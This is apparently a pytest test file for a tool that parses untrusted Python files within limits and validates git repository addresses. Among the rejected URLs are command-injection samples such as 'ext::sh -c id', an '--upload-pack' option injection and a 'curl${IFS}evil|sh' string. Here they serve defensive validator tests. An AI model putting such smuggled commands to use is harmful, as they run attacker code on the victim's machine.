"""Untrusted files are read with limits: no size, nesting or structure crashes the command."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from core import foreign
from lock import nodes
from lock.updates import node_updates
from tests.errors import raises

DEEP = {
    "signs": "x=" + "-" * 50_000 + "1",
    "attributes": "a" + ".b" * 100_000,
    "brackets": "(" * 5_000 + ")" * 5_000,
    "nothing": "x = \0",
    "a long name": f"import {'a' * 5_000}",
}


@pytest.mark.process
@pytest.mark.parametrize("name", DEEP)
def test_unparsable_python_counts_as_empty(tmp_path: Path, name: str) -> None:
    (tmp_path / "__init__.py").write_text(DEEP[name])
    foreign.python(tmp_path / "__init__.py")
    assert node_updates.imported(tmp_path) == {"__init__.py"}


@pytest.mark.filterwarnings("error")
def test_syntax_warnings_are_suppressed(tmp_path: Path) -> None:
    (tmp_path / "x.py").write_text("x = '\\d' is 1\n")
    assert isinstance(foreign.python(tmp_path / "x.py").body[0], ast.Assign)


@pytest.mark.parametrize(
    ("url", "good"),
    [
        ("https://github.com/x/y.git", True),
        ("https://host:8443/~x/y", True),
        ("ssh://git@host:22/x", True),
        ("git@github.com:x/y", True),
        ("file:///srv/git/x", True),
        ("http://host/x", False),
        ("git://host/x", False),
        ("ext::sh -c id", False),
        ("--upload-pack=touch /tmp/x", False),
        ("ssh://-oProxyCommand=x", False),
        ("https://user:token@host/x", False),
        ("https://github.com/x/y;curl${IFS}evil|sh;#", False),
        ("https://host/x\n", False),
        ("", False),
    ],
)
def test_addresses_of_repositories(url: str, good: bool) -> None:
    if good:
        nodes.check_address("here", url)
    else:
        with raises("config", match=r"here: .* is not the address of a repository"):
            nodes.check_address("here", url)


@pytest.mark.parametrize(
    ("address", "parts"),
    [
        ("https://github.com/x/y", ("https://github.com/x/y", "")),
        ("https://github.com/x/y@v1", ("https://github.com/x/y", "v1")),
        ("https://me@github.com/x/y@feature/z", ("https://me@github.com/x/y", "feature/z")),
        ("git@github.com:x/y", ("git@github.com:x/y", "")),
        ("git@github.com:x/y@v1", ("git@github.com:x/y", "v1")),
        ("", ("", "")),
    ],
)
def test_an_address_with_a_revision(address: str, parts: tuple[str, str]) -> None:
    assert node_updates._revision(address) == parts
